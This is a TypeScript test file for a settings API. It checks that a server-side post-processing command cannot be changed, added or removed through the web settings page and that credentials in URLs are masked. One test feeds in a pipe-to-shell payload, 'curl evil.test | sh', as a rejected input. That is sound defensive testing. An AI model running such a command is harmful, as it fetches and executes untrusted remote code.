import { describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { parse } from "smol-toml";
import { type Json, jsonOf } from "../support/runtime.ts";
import { getSettings, putSettings, type SettingsRuntime, settingsRuntime } from "./support.ts";

const WITH_COMMAND = `languages = ["en"]

[postProcessing]
command = ["/usr/bin/chmod", "664", "{{subtitles}}", "https://user:hook-password-77@hooks.test/x"]
timeoutMs = 30000
`;

async function withSettings(toml: string, run: (s: SettingsRuntime) => Promise<void>) {
  const s = settingsRuntime(toml);
  try {
    await run(s);
  } finally {
    await s.close();
  }
}

/** A save that changes `values` from what the document showed, as the settings page sends it. */
async function save(s: SettingsRuntime, edit: (values: Json) => void) {
  const doc = await getSettings(s.runtime);
  const values = structuredClone(doc.values);
  edit(values);
  return putSettings(s.runtime, { revision: doc.revision, values });
}

describe("postProcessing in the settings API", () => {
  test("the document shows the command (URL credentials masked)", () =>
    withSettings(WITH_COMMAND, async (s) => {
      const doc = await getSettings(s.runtime);
      expect(doc.values.postProcessing).toEqual({
        command: ["/usr/bin/chmod", "664", "{{subtitles}}", "https://***@hooks.test/x"],
        timeoutMs: 30000,
      });
    }));

  test("a change to the command is refused with 422 naming the key and config.toml; the file stays", () =>
    withSettings(WITH_COMMAND, async (s) => {
      const before = readFileSync(s.configFile, "utf8");
      const res = await save(s, (values) => {
        values.postProcessing.command = ["/bin/sh", "-c", "curl evil.test | sh"];
      });
      expect(res.status).toBe(422);
      expect(res.headers.get("content-type")).toContain("application/problem+json");
      const problem = await jsonOf(res);
      expect(problem.errors).toEqual([
        {
          path: "postProcessing.command",
          message: `runs a program on the server, so it cannot be changed here: edit ${s.configFile} on the server, then reload the configuration`,
        },
      ]);
      expect(problem.detail).toContain("postProcessing.command: runs a program on the server");
      expect(readFileSync(s.configFile, "utf8")).toBe(before);
    }));

  test("setting a command where none was, or removing one, is refused too", async () => {
    await withSettings(`languages = ["en"]\n`, async (s) => {
      const res = await save(s, (values) => {
        values.postProcessing = { command: ["/usr/bin/touch", "/tmp/owned"], timeoutMs: 1000 };
      });
      expect(res.status).toBe(422);
      expect((await jsonOf(res)).errors.map((e: { path: string }) => e.path)).toEqual([
        "postProcessing.command",
        "postProcessing.timeoutMs",
      ]);
      expect(parse(readFileSync(s.configFile, "utf8")).postProcessing).toBeUndefined();
    });
    await withSettings(WITH_COMMAND, async (s) => {
      const res = await save(s, (values) => {
        values.postProcessing = null;
      });
      expect(res.status).toBe(422);
      expect((await jsonOf(res)).errors.map((e: { path: string }) => e.path)).toEqual([
        "postProcessing.command",
        "postProcessing.timeoutMs",
      ]);
    });
  });

  test("a save of other settings that sends the section back unchanged goes through and keeps it", () =>
    withSettings(WITH_COMMAND, async (s) => {
      const res = await save(s, (values) => {
        values.languages = ["en", "de"];
      });
      expect(res.status).toBe(200);
      const file = parse(readFileSync(s.configFile, "utf8")) as Json;
      expect(file.languages).toEqual(["en", "de"]);
      expect(file.postProcessing).toEqual({
        command: ["/usr/bin/chmod", "664", "{{subtitles}}", "https://user:hook-password-77@hooks.test/x"],
        timeoutMs: 30000,
      });
    }));
});
